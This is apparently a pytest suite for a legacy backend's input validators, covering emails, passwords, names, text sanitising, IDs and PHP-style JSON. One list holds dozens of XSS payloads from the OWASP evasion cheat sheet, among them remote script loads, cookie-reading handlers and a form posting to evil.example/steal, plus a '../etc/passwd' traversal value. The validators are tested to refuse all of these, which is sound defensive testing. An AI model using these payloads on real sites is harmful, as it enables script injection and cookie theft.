import math
from typing import Any

import pytest

from backend.core.errors import BadRequest
from backend.legacy import validators
from backend.legacy.php import filter_bool, php_json, php_string, php_truthy
from backend.legacy.validators import (
    email,
    flexible_id,
    has_active_markup,
    http_method,
    label,
    new_password,
    password,
    person_name,
    required,
    text,
)

LONG_PASSWORD_128 = "Aa1" + "x" * 125


def error_of(check: Any, *args: Any, **kwargs: Any) -> str:
    with pytest.raises(BadRequest) as caught:
        check(*args, **kwargs)
    assert caught.value.status == 400
    return caught.value.message


# --- required / label ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "expected"),
    [
        ("email", "Email"),
        ("refresh_token", "Refresh token"),
        ("user_id", "User id"),
        ("url", "Url"),
        ("new_password", "New password"),
    ],
)
def test_label_replaces_underscores_and_capitalises_first_letter(field: str, expected: str) -> None:
    assert label(field) == expected


@pytest.mark.parametrize(
    ("data", "fields", "message"),
    [
        ({}, ("email", "password"), "Required field: Email, Required field: Password"),
        ({"email": "a@b.co"}, ("email", "password"), "Required field: Password"),
        (
            {"email": None, "password": ""},
            ("email", "password"),
            "Required field: Email, Required field: Password",
        ),
        (
            {},
            ("token", "email", "new_password"),
            "Required field: Token, Required field: Email, Required field: New password",
        ),
        ({"refresh_token": ""}, ("refresh_token",), "Required field: Refresh token"),
        ([], ("name",), "Required field: Name"),
        ("name", ("name",), "Required field: Name"),
        (
            None,
            ("name", "method", "url"),
            "Required field: Name, Required field: Method, Required field: Url",
        ),
        (42, ("name",), "Required field: Name"),
    ],
)
def test_required_lists_missing_fields_in_declared_order(
    data: Any, fields: tuple[str, ...], message: str
) -> None:
    assert error_of(required, data, *fields) == message


@pytest.mark.parametrize("value", [False, 0, "0", " ", [], {}, 0.0, "x"])
def test_required_counts_falsy_but_set_values_as_present(value: Any) -> None:
    required({"name": value}, "name")


# --- php_truthy / filter_bool -------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (False, False),
        (0, False),
        (0.0, False),
        (-0.0, False),
        ("", False),
        ("0", False),
        ([], False),
        ({}, False),
        (None, False),
        (True, True),
        (1, True),
        (-1, True),
        (0.5, True),
        ("false", True),
        ("0.0", True),
        (" ", True),
        ("00", True),
        ([0], True),
        ({"a": 0}, True),
        (math.nan, True),
    ],
)
def test_php_truthy_follows_php_bool_cast(value: Any, expected: bool) -> None:
    assert php_truthy(value) is expected


@pytest.mark.parametrize(
    "value", [True, 1, 1.0, "1", "true", "TRUE", "on", "On", "yes", "YES", " yes ", "true\n"]
)
def test_filter_bool_accepts_php_true_words(value: Any) -> None:
    assert filter_bool(value) is True


@pytest.mark.parametrize(
    "value",
    [
        False,
        0,
        2,
        1.5,
        "0",
        "2",
        "1.0",
        "false",
        "off",
        "no",
        "",
        None,
        "y",
        "t",
        "truthy",
        [],
        [1],
        {},
        {"a": 1},
    ],
)
def test_filter_bool_treats_everything_else_as_false(value: Any) -> None:
    assert filter_bool(value) is False


# --- email ---------------------------------------------------------------------------------

EMAIL_254 = "a" * 64 + "@" + "b" * 63 + "." + "c" * 63 + "." + "d" * 61


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("user@example.com", "user@example.com"),
        ("User.Name+tag@Example.COM", "user.name+tag@example.com"),
        ("a@b.c", "a@b.c"),
        ("x@sub-domain.example.co.id", "x@sub-domain.example.co.id"),
        ("x@xn--bcher-kva.example", "x@xn--bcher-kva.example"),
        ("a@[127.0.0.1]", "a@[127.0.0.1]"),
        ("a" * 64 + "@x.com", "a" * 64 + "@x.com"),
        (EMAIL_254, EMAIL_254),
    ],
)
def test_email_accepts_valid_addresses_and_lower_cases_them(value: str, expected: str) -> None:
    assert email(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        None,
        42,
        True,
        ["a@b.co"],
        {"email": "a@b.co"},
        "",
        "plainaddress",
        "a@b",
        "@b.co",
        "a@",
        " a@b.co",
        "a@b.co ",
        "a@b.co\n",
        "a..b@x.com",
        ".a@x.com",
        "a.@x.com",
        "a b@x.com",
        "a@x-.com",
        "a@-x.com",
        "a@x.1com",
        "é@x.com",
        "a@bücher.de",
        "a" * 65 + "@x.com",
        "x@" + "a" * 64 + ".com",
        "a@b.co@c.co",
        "<script>@x.com",
        '"a b"@x.com',
        EMAIL_254 + "d",
        "a" * 300 + "@x.com",
    ],
)
def test_email_rejects_what_php_filter_validate_email_rejects(value: Any) -> None:
    assert error_of(email, value) == "Invalid email format"


@pytest.mark.parametrize(
    "value", ["o'brien@x.com", '"quoted"@x.com', '"a\\ b"@x.com', '"a\x01"@x.com']
)
def test_email_rejects_quotes_and_control_characters(value: str) -> None:
    assert error_of(email, value) == "Email contains invalid characters"


def test_email_guard_refuses_more_than_254_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    # The PHP filter already caps unquoted addresses at 254 chars; this pins the last guard.
    monkeypatch.setattr(validators, "_passes_php_email_filter", lambda value: True)
    assert error_of(email, EMAIL_254 + "d") == "Email too long (max 254 characters)"


# --- password ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["Abcdefg1", "Passw0rd", "Ab1ééé", LONG_PASSWORD_128, " Abcdef1 "]
)
def test_password_accepts_and_returns_value_unchanged(value: str) -> None:
    assert password(value) == value


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("", "Password is required"),
        ("0", "Password is required"),
        (None, "Password is required"),
        (False, "Password is required"),
        (0, "Password is required"),
        ("Ab1", "Password should be at least 8 characters"),
        ("Ab1éé", "Password should be at least 8 characters"),
        (True, "Password should be at least 8 characters"),
        (LONG_PASSWORD_128 + "x", "Password too long (max 128 characters)"),
        ("Aa1" + "é" * 63, "Password too long (max 128 characters)"),
        ("abcdefgh1", "Password must contain uppercase, lowercase, and numbers"),
        ("ABCDEFGH1", "Password must contain uppercase, lowercase, and numbers"),
        ("Abcdefgh", "Password must contain uppercase, lowercase, and numbers"),
        ("password", "Password must contain uppercase, lowercase, and numbers"),
        ("ÄBCDEFGé1", "Password must contain uppercase, lowercase, and numbers"),
        (12345678, "Password must contain uppercase, lowercase, and numbers"),
        (["Abcdefg1"], "Password must be a string"),
    ],
)
def test_password_reports_legacy_messages(value: Any, message: str) -> None:
    assert error_of(password, value) == message


@pytest.mark.parametrize(
    ("value", "prefix", "message"),
    [
        ("Ab1", "New password", "New password must be at least 8 characters"),
        ("0", "New password", "New password must be at least 8 characters"),
        ("abcdefgh", "New password", "New password must contain uppercase, lowercase, and numbers"),
        (LONG_PASSWORD_128 + "x", "New password", "New password too long (max 128 characters)"),
        ({}, "New password", "New password must be a string"),
        ("Ab1", "Password", "Password must be at least 8 characters"),
        ("abcdefgh", "Password", "Password must contain uppercase, lowercase, and numbers"),
    ],
)
def test_new_password_reports_change_and_reset_messages(
    value: Any, prefix: str, message: str
) -> None:
    assert error_of(new_password, value, prefix=prefix) == message


def test_new_password_defaults_to_change_password_wording() -> None:
    assert error_of(new_password, "short") == "New password must be at least 8 characters"


def test_new_password_returns_valid_value_unchanged() -> None:
    assert new_password(" NewPass1 ") == " NewPass1 "


# --- person_name ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Alice", "Alice"),
        ("  Bob Smith \n", "Bob Smith"),
        ("O'Brien", "O'Brien"),
        ("Tom & Jerry", "Tom & Jerry"),
        ("Tom &amp; Jerry", "Tom &amp; Jerry"),
        ('The "Great" Dev', 'The "Great" Dev'),
        ("a < b", "a < b"),
        ("<b>Bold</b> Name", "<b>Bold</b> Name"),
        ("José https://jose.dev", "José https://jose.dev"),
        ("Renée Müller", "Renée Müller"),
        ("李小龙", "李小龙"),
        ("é", "é"),
        ('eval("alert(1)")', 'eval("alert(1)")'),
        ("line\nbreak", "line\nbreak"),
        ("x" * 100, "x" * 100),
        ("é" * 50, "é" * 50),
        (42, "42"),
    ],
)
def test_person_name_accepts_plain_text_as_sent(value: Any, expected: str) -> None:
    assert person_name(value) == expected


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (None, "Name is required"),
        ("", "Name is required"),
        ("0", "Name is required"),
        ([], "Name is required"),
        ("a", "Name must be at least 2 characters"),
        ("   ", "Name must be at least 2 characters"),
        (" a ", "Name must be at least 2 characters"),
        ("x" * 101, "Name must be less than 100 characters"),
        ("é" * 51, "Name must be less than 100 characters"),
        ("<script>alert(1)</script>", "Name contains invalid content"),
        ("Bob<img src=x onerror=alert(1)>", "Name contains invalid content"),
        ("javascript:alert(1)", "Name contains invalid content"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "Name contains invalid content"),
        ('Bob" onmouseover="alert(1)', "Name contains invalid content"),
        (["Alice"], "Name must be a string"),
    ],
)
def test_person_name_reports_legacy_messages(value: Any, message: str) -> None:
    assert error_of(person_name, value) == message


def test_person_name_honours_custom_byte_limit() -> None:
    assert error_of(person_name, "x" * 51, max_bytes=50) == "Name must be less than 50 characters"


# --- text (sanitize replacement) -----------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        ("", ""),
        ("   ", ""),
        ("  My Project \t", "My Project"),
        ("\x0bvalue\x00", "value"),
        ("\x0cvalue", "\x0cvalue"),
        (123, "123"),
        (1.5, "1.5"),
        (2.0, "2"),
        (True, "1"),
        (False, ""),
        ("x" * 1000, "x" * 1000),
    ],
)
def test_text_trims_coerces_and_never_escapes(value: Any, expected: str | None) -> None:
    assert text(value) == expected


ACCEPTED_PLAIN_TEXT = [
    "Hotel: X",
    "metadata: x",
    "profile: x",
    "data: user profile",
    "action=delete",
    "https://api.example.com/users?id=1&name=x",
    "https://x/a?b=1&c=2",
    "{{base_url}}/users/{{user_id}}?online=1&onload=2",
    "50% off",
    "100%25",
    "user_id=5",
    "Tom &amp; Jerry",
    "&lt;b&gt;",
    "a < b",
    "price > 100 && price < 200",
    "if (a<b && c>d) return",
    "<b>bold</b>",
    '<i>x</i> <p>para</p> <a href="https://example.com">link</a>',
    "docker pull <image>",
    "<input> placeholder and <body> of the request",
    "<scripting> <imgur> <formula> <stylesheet>",
    "database>",
    "O'Brien",
    'The "Great" Dev',
    "mailto:team@example.com tel:+62123 ftp://files.example.com file:///tmp/x",
    "Java script: the basics",
    "The onerror handler fires on failure",
    "a regular expression (regex)",
    "@import url(theme.css)",
    "SELECT * FROM users WHERE id = 1",
    "setTimeout(fn, 10)",
    "C:\\Users\\dev",
    "日本語のテキスト 😀",
]


@pytest.mark.parametrize("value", ACCEPTED_PLAIN_TEXT)
def test_text_returns_plain_text_exactly_as_sent(value: str) -> None:
    assert text(value) == value


REFUSED_ACTIVE_MARKUP = [
    # OWASP XSS filter evasion cheat sheet
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert('XSS')",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74",
    "jav\tascript:alert('XSS');",
    "jav&#x09;ascript:alert('XSS');",
    "jav&#x0A;ascript:alert('XSS');",
    "java\x00script:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" AllowScriptAccess=always>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=vbscript:msgbox(1)>x</a>",
    # other refused shapes
    "<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<details open ontoggle=alert(1)>",
    "<b onmouseover=alert(1)>bold</b>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)",
    "onerror=alert(1)",
    "x &#32;onerror&#61;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA: text/html,<p>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/steal"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div style="-moz-binding: url(http://xss.rocks/xssmoz.xml#xss)">',
    "<script",
    "</script>",
]


@pytest.mark.parametrize("value", REFUSED_ACTIVE_MARKUP)
def test_text_refuses_active_markup(value: str) -> None:
    assert error_of(text, value) == "Input contains invalid content"


@pytest.mark.parametrize("value", ["set one = 1", "x online=true", "'onboarding=done'"])
def test_text_refuses_on_words_in_attribute_position(value: str) -> None:
    # Documented trade-off: `on<letters>=` after whitespace/quote could be an injected handler.
    assert error_of(text, value) == "Input contains invalid content"


@pytest.mark.parametrize(
    ("value", "max_bytes", "message"),
    [
        ("x" * 1001, 1000, "Input too long (max 1000 characters)"),
        ("é" * 501, 1000, "Input too long (max 1000 characters)"),
        ("x" * 101, 100, "Input too long (max 100 characters)"),
        ("x" * 51, 50, "Input too long (max 50 characters)"),
    ],
)
def test_text_limits_byte_length(value: str, max_bytes: int, message: str) -> None:
    assert error_of(text, value, max_bytes) == message


def test_text_checks_length_after_trimming() -> None:
    assert text("  " + "x" * 1000 + "  ") == "x" * 1000


@pytest.mark.parametrize(
    ("value", "field", "message"),
    [
        (["a"], None, "Input must be a string"),
        ({"a": 1}, None, "Input must be a string"),
        ([], "Name", "Name must be a string"),
        ({}, "Description", "Description must be a string"),
    ],
)
def test_text_refuses_arrays_and_objects(value: Any, field: str | None, message: str) -> None:
    assert error_of(text, value, field=field) == message


def test_has_active_markup_checks_the_entity_decoded_form() -> None:
    assert has_active_markup("&lt;iframe src=x&gt;")
    assert not has_active_markup("&lt;b&gt;hi&lt;/b&gt;")


# --- flexible_id ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("user_1700000000_abc123", "user_1700000000_abc123"),
        ("abc-DEF_9", "abc-DEF_9"),
        ("-3", "-3"),
        ("1e3", "1e3"),
        (42, "42"),
        (3.0, "3"),
    ],
)
def test_flexible_id_accepts_word_characters_and_dashes(value: Any, expected: str) -> None:
    assert flexible_id(value) == expected


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (None, "ID is required"),
        ("", "ID is required"),
        ("1.5", "Input must be an integer"),
        ("-2.5", "Input must be an integer"),
        (".5", "Input must be an integer"),
        ("1.5e3", "Input must be an integer"),
        (1.5, "Input must be an integer"),
        ("a.b", "Validation failed"),
        ("1.2.3", "Validation failed"),
        ("1 2", "Validation failed"),
        ("abc!", "Validation failed"),
        ("../etc/passwd", "Validation failed"),
        ("abc\n", "Validation failed"),
        ("é", "Validation failed"),
        ([1], "Validation failed"),
        ({"id": 1}, "Validation failed"),
    ],
)
def test_flexible_id_reports_legacy_messages(value: Any, message: str) -> None:
    assert error_of(flexible_id, value) == message


# --- http_method ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("get", "GET"),
        (" patch ", "PATCH"),
        ("POST", "POST"),
        ("Put", "PUT"),
        ("delete", "DELETE"),
        ("HEAD", "HEAD"),
        ("options", "OPTIONS"),
    ],
)
def test_http_method_upper_cases_allowed_methods(value: str, expected: str) -> None:
    assert http_method(value) == expected


@pytest.mark.parametrize("value", ["TRACE", "CONNECT", "G ET", "", None, 1, ["GET"], "<script>"])
def test_http_method_rejects_other_values(value: Any) -> None:
    assert error_of(http_method, value) == "Invalid HTTP method"


# --- php_json ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ({}, "{}"),
        ([], "[]"),
        ({"a": {}, "b": []}, '{"a":{},"b":[]}'),
        ({"0": "a", "1": "b"}, '{"0":"a","1":"b"}'),
        ({"url": "https://x/y"}, '{"url":"https:\\/\\/x\\/y"}'),
        ({"name": "é"}, '{"name":"\\u00e9"}'),
        ("😀", '"\\ud83d\\ude00"'),
        ({"b": 1, "a": [1, 2.5], "c": None, "d": True}, '{"b":1,"a":[1,2.5],"c":null,"d":true}'),
        ({"html": "<b>&'"}, '{"html":"<b>&\'"}'),
        ({"line": "a\nb\t\x01"}, '{"line":"a\\nb\\t\\u0001"}'),
    ],
)
def test_php_json_writes_compact_escaped_json_and_keeps_empty_objects(
    value: Any, expected: str
) -> None:
    assert php_json(value) == expected


def test_php_json_refuses_nan_like_php() -> None:
    with pytest.raises(ValueError):
        php_json({"x": math.nan})


# --- php_string ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (True, "1"),
        (False, ""),
        (7, "7"),
        (1.0, "1"),
        (0.1 + 0.2, "0.3"),
        (1e20, "1.0E+20"),
        (1.5e-7, "1.5E-7"),
        (-0.0, "-0"),
    ],
)
def test_php_string_casts_scalars_like_php(value: bool | int | float, expected: str) -> None:
    assert php_string(value) == expected
